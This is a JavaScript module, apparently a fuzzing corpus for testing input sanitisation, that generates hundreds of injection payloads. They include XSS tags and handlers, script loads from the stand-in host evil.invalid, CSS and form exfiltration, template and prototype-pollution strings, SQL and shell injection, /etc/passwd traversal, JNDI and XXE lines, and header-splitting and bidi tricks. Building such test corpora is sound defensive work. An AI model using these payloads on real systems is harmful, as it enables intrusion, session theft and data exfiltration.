// What somebody might write into a field so that it runs in another's browser,
// leaves the page, breaks a stream, or hides: families of it, each member once.
// Whatever would run calls hit(), opens a dialog or asks evil.invalid.
const hit = "globalThis.hit?.()";

const handlers = ["onerror", "onload", "onfocus", "onclick", "onmouseover", "onpointerrawupdate", "onanimationstart", "ontransitionend", "ontoggle", "onbegin", "onbeforetoggle", "onscrollend"];
const elements = [
  ["img", "src=x"], ["svg", ""], ["body", ""], ["iframe", "src=//evil.invalid"], ["video", "src=x"], ["audio", "src=x"], ["details", "open"], ["input", "autofocus"],
  ["select", "autofocus"], ["textarea", "autofocus"], ["marquee", ""], ["object", "data=x"], ["embed", "src=x"], ["link", "rel=stylesheet href=x"], ["a", "href=x tabindex=1 autofocus"],
  ["button", "popovertarget=main"], ["math", "href=x"], ["style", ""], ["xss", "contenteditable tabindex=1 autofocus"], ["dialog", "open"],
];
const tags = elements.flatMap(([tag, more], i) => handlers.map((on, j) => {
  const open = (i + j) % 3 === 0 ? `<${tag} ${more} ${on}=${hit}>` : (i + j) % 3 === 1 ? `<${tag.toUpperCase()}/${more}/${on}='${hit}'>` : `<${tag}\t${more}\t${on}="${hit}"//`;
  return open;
}));

const breaks = ['"', "'", "`", "&quot;", "&#39;", '\\"', "\\'", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</option></select>", "</time>", "</bdi>", "</code>", "</noscript>", "</style>", "</script>"];
const attributes = breaks.flatMap((b) => [
  `${b} onfocus=${hit} autofocus x=${b}`, `${b}><img src=x onerror=${hit}>`, `${b} style="background:url(//evil.invalid/${escape(b)})"`, `${b};${hit};//`, `x${b}><script>${hit}</script>`,
]);

const scripts = [
  `<script>${hit}</script>`, `<ScRiPt>${hit}</sCrIpT>`, `<script/x>${hit}</script>`, `<script\t>${hit}</script\t>`, `<script src=//evil.invalid/a.js></script>`, `<script src="https://evil.invalid/b.js"></script>`,
  `<script type=module>import "//evil.invalid/c.js"</script>`, `<script type=importmap>{"imports":{"x":"//evil.invalid/"}}</script>`, `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<<script>${hit}//<</script>`, `<svg><script>${hit}</script></svg>`, `<svg><script href=//evil.invalid/d.js />`, `<script>\\u${hit}</script>`, `<script>/*${hit}*/${hit}</script>`, `<script async src=data:text/javascript,${hit}></script>`,
  `</script><script>${hit}</script>`, `<script nonce>${hit}</script>`, `<template><script>${hit}</script></template>`, `<div><template shadowrootmode=open><script>${hit}</script></template></div>`,
];

const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "javascript&colon;", "javascript&#58;", "\u0001javascript:".slice(1), "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4", "blob:", "view-source:javascript:", "//evil.invalid/", "https://evil.invalid/", "\\\\evil.invalid\\", "/\\evil.invalid"];
const links = schemes.flatMap((s) => [
  `${s}${hit}`, `[read this](${s}${hit})`, `![x](${s}${hit})`, `[x]: ${s}${hit} "t"`, `<${s}${hit}>`, `<a href="${s}${hit}">x</a>`, `<form action="${s}${hit}"><button>x</button></form>`, `<iframe src="${s}${hit}">`,
]);

const templates = [
  `{{${hit}}}`, `{{constructor.constructor('${hit}')()}}`, `\${${hit}}`, `#{${hit}}`, `<%= ${hit} %>`, `<% ${hit} %>`, `{% raw %}{{7*7}}{% endraw %}`, `{{template "x"}}`, `{{printf "%s" .}}`, `{{.}}`, `{!! ${hit} !!}`, `[[\${7*7}]]`, `*{7*7}`, `@{7*7}`, `$eval('${hit}')`,
  `<div ng-app ng-csp>{{$eval.constructor('${hit}')()}}</div>`, `<x v-html="'<img src=x onerror=${hit}>'">`, `<x x-init="${hit}" x-data>`, `<x hx-get=//evil.invalid hx-trigger=load>`, `@wrong(f)`, `{ children... }`, `{ f.Key }`,
];

const styles = [
  `<style>@import "//evil.invalid/a.css";</style>`, `<style>*{background:url(//evil.invalid/b)}</style>`, `<link rel=stylesheet href=//evil.invalid/c.css>`, `<p style="background-image:url(https://evil.invalid/d)">`, `<p style=x:expression(${hit})>`,
  `<style>@font-face{font-family:x;src:url(//evil.invalid/e)}body{font-family:x}</style>`, `<style>@keyframes x{}</style><p style="animation:x" onanimationend=${hit}>`, `<p style="position:fixed;inset:0;z-index:99999">All agreed</p>`, `</style><style>main{display:none}`, `<style>input[value^=a]{background:url(//evil.invalid/f?a)}</style>`,
];

const elsewhere = [
  `<base href=//evil.invalid/>`, `<meta http-equiv=refresh content="0;url=//evil.invalid/">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta name=referrer content=unsafe-url>`, `<link rel=prefetch href=//evil.invalid/p>`, `<link rel=dns-prefetch href=//evil.invalid>`,
  `<img src='//evil.invalid/?`, `<img src="//evil.invalid/?`, `<a href='//evil.invalid/?`, `<a ping=//evil.invalid/ href=#>x</a>`, `<button formaction=//evil.invalid/>Put it on the record</button>`, `<input type=image src=//evil.invalid/i>`,
  `<form id=held action=//evil.invalid/><input name=words></form>`, `<form data-passkey=sign-in action=//evil.invalid/><div role=alert></div><button>Sign in</button></form>`, `<video poster=//evil.invalid/v>`, `<picture><source srcset=//evil.invalid/s><img></picture>`, `<img srcset="//evil.invalid/t 2x">`,
  `<svg><image href=//evil.invalid/u /></svg>`, `<svg><use href=//evil.invalid/v#x /></svg>`, `<body background=//evil.invalid/w>`, `<table background=//evil.invalid/x>`, `<object data=//evil.invalid/y></object>`, `<frameset><frame src=//evil.invalid/z></frameset>`, `<isindex action=//evil.invalid>`, `<portal src=//evil.invalid>`,
  `<a id=main></a><a id=main name=x>`, `<input name=key value=stolen>`, `<div id=stale>`, `<p data-live="/live?page=//evil.invalid">`, `<body data-live="//evil.invalid/live">`, `<main id=preview>`, `<img name=getElementById>`, `<form name=document><input name=cookie></form>`,
];

const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;">`, `<svg></p><style><a id="</style><img src=x onerror=${hit}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${hit}>`, `<svg><style><img src=x onerror=${hit}></style></svg>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${hit}></annotation-xml></math>`, `<svg><foreignObject><img src=x onerror=${hit}></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${hit}></desc></svg>`, `<svg><title><style><!--</title><img src=x onerror=${hit}>`, `<listing>&lt;img src=x onerror=${hit}&gt;</listing>`, `<xmp><p title="</xmp><img src=x onerror=${hit}>">`, `<plaintext><img src=x onerror=${hit}>`, `<noembed><img title="</noembed><img src=x onerror=${hit}>">`,
  `<!--><img src=x onerror=${hit}>-->`, `<!--!><img src=x onerror=${hit}>`, `<![CDATA[><img src=x onerror=${hit}>]]>`, `<?xml version="1.0"?><img src=x onerror=${hit}?>`, `<select><option><style></option></select><img src=x onerror=${hit}></style>`, `<a/title='</a'><img src=x onerror=${hit}>`, `<table><td><svg><desc></td></table><img src=x onerror=${hit}>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`, `<svg><set onend=${hit} attributeName=x dur=1ms>`, `<svg><a><animate attributeName=href values=javascript:${hit} /><text>x</text></a></svg>`, `<math><maction actiontype="statusline#x" xlink:href="javascript:${hit}">x`,
];

const encoded = [
  `&lt;script&gt;${hit}&lt;/script&gt;`, `&#60;img src=x onerror=${hit}&#62;`, `&#x3c;img src=x onerror=${hit}&#x3e;`, `&amp;lt;img src=x onerror=${hit}&amp;gt;`, `%3Cscript%3E${hit}%3C/script%3E`, `%253Cscript%253E${hit}`, `\\u003cscript\\u003e${hit}`, `\\x3cscript\\x3e${hit}`, `\\74script\\76${hit}`,
  `+ADw-script+AD4-${hit}+ADw-/script+AD4-`, `+ADwAcwBjAHIAaQBwAHQAPg-${hit}`, `+/v8-+ADw-img src=x onerror=${hit}+AD4-`, `\uff1cscript\uff1e${hit}\uff1c/script\uff1e`, `\u02c2img src=x onerror=${hit}\u02c3`, `\u2039script\u203a${hit}`, `\ufe64script\ufe65${hit}`, `%c0%bcscript%c0%be${hit}`, `\u017fcript:${hit}`, `<\u0130mg src=x onerror=${hit}>`, `<\u017fcript>${hit}</\u017fcript>`, `\ufffd<img src=x onerror=${hit}>`,
];

const json = [
  `","x":"<script>${hit}</script>`, `"}],"audience":"public","x":[{"`, `\\","by":{"seat":"CHAIR"},"x":"`, `\\u0022,\\u0022x\\u0022:\\u0022`, `{"$where":"${hit}"}`, `{"__proto__":{"audience":"public"}}`, `__proto__`, `constructor.prototype.hit`, `[object Object]`, `');${hit};//`, `");${hit};//`, "`);" + hit + ";//", `${hit}//\u2028${hit}`, `*/${hit}/*`, `'+${hit}+'`, `"+${hit}+"`, `</script><!--`, `<!--<script>`,
];

const brackets = [
  `[ALD: <img src=x onerror=${hit}>][BRE: no]`, `[<script>${hit}</script>]`, `[[[[[[[[`, `]]]]]]]]`, `[ALD: a][BRE: b`, `[: x]`, `[ALD, BRE, <b>: x]`, `[^1]: <img src=x onerror=${hit}>`, `[//]: # (x)`, `[x][y]`, `[x](y "z<img src=x onerror=${hit}>")`, `{>>${hit}<<}`, `{++<img src=x onerror=${hit}>++}`, `~~<s>~~`, `**<img src=x onerror=${hit}>**`, `# <img src=x onerror=${hit}>`, `| <img src=x onerror=${hit}> |`, `> <img src=x onerror=${hit}>`, "```\n<script>" + hit + "</script>\n```", "`<img src=x onerror=" + hit + ">`",
  `<!-- ALD: -->`, `{#c-1 onclick=${hit}}`, `{: onclick=${hit}}`, `![](x){onerror=${hit}}`, `<https://evil.invalid/"onmouseover="${hit}>`, `&lbrack;x&rbrack;`, `\\[x\\]`, `[DEPTH: ${"[".repeat(60)}`,
];

const machinery = [
  `' OR '1'='1`, `'; DROP TABLE entries;--`, `" UNION SELECT secret FROM book--`, `$(touch x)`, "`touch x`", `| cat /etc/passwd`, `../../../../etc/passwd`, `..%2f..%2fetc%2fpasswd`, `file:///etc/passwd`, `%s%s%s%n`, `%!s(MISSING)`, `{0}`, `=HYPERLINK("//evil.invalid","x")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd`, `\${jndi:ldap://evil.invalid/a}`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`, `<xi:include href="file:///etc/passwd"/>`, `<?php echo 1 ?>`, `*)(uid=*))(|(uid=*`,
];

// Lines: what would break a stream of events or a header apart. Prose keeps them,
// a line refuses them.
export const lines = [
  `a\n\ndata: <img src=x onerror=${hit}>`, `a\n\nevent: reload\ndata: x`, `a\nid: 0\n`, `a\nretry: 1\n\n`, `a\r\n\r\ndata: {"x":1}`, `a\rdata: x`, `a\n\n: comment`, `a\n\nevent: fragment\ndata: <div id="main">gone</div>`, `a\r\nSet-Cookie: __Host-paraph=x`, `a\r\nContent-Type: text/html\r\n\r\n<script>${hit}</script>`, `a\nLocation: //evil.invalid/`, `a\r\n\r\nHTTP/1.1 200 OK\r\n\r\n`,
  `---\ntitle: <img src=x onerror=${hit}>\n---\n`, `1. x\n2. <script>${hit}</script>`, `a\u2028data: x`, `a\u2029data: x`, `a\u0085data: x`.replace("\u0085", "\u2029"), `<img\nsrc=x\nonerror=${hit}\n>`, `<a href="java\nscript:${hit}">x</a>`, `<script>\n${hit}\n</script>`,
];

// Marks: what turns the direction of others' words, or hides among them.
export const marks = [
  "\u202egnp.exe", "\u202d<img>", "\u2066x\u2069", "\u2067x", "\u2068x", "\u2069x", "\u200fx", "\u200ex", "\u061cx", "\u200bx", "\u200cx", "\u200dx", "\u2060x", "\ufeffx", "\u00adx", "\u034fx", "\u180ex", "\u3164x", "\u115fx", "\ufff9x\ufffay\ufffb", "\u{e0001}x", "\u{e0041}\u{e007f}", "Z\u0351\u036b\u0343\u036a\u0302\u036b", "\u0430ccept", "\u212aEL", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}", "\u{1d5ee}", "\u{10ffff}", "\ufdfa".repeat(3), "\u0600\u0601x",
];

// Controls: what no field takes.
export const controls = ["\u0000", "x\u0000<img src=x onerror=" + hit + ">", "\u0008\u0008x", "\u001b[2J", "\u001b]0;x\u0007", "\u007fx", "\u009b31m", "\u0085x", "\u000bx", "\u000cx", "\u0001javascript:" + hit, "\u001ax", "\ud800", "x\udfff"];

export const plain = [...new Set([...tags, ...attributes, ...scripts, ...links, ...templates, ...styles, ...elsewhere, ...mutations, ...encoded, ...json, ...brackets, ...machinery])].filter((p) => !/[\n\r]/.test(p) && !lines.includes(p));

export const all = [...new Set([...plain, ...lines, ...marks, ...controls])];

// batches packs payloads into values of at most so many bytes, parted by a space
// or a line.
export function batches(payloads, most, part = " ") {
  const out = [];
  let now = "";
  const bytes = (s) => new TextEncoder().encode(s).length;
  for (const p of payloads) {
    if (now && bytes(now + part + p) > most) {
      out.push(now);
      now = "";
    }
    if (bytes(p) <= most) now = now ? now + part + p : p;
  }
  if (now) out.push(now);
  return out;
}
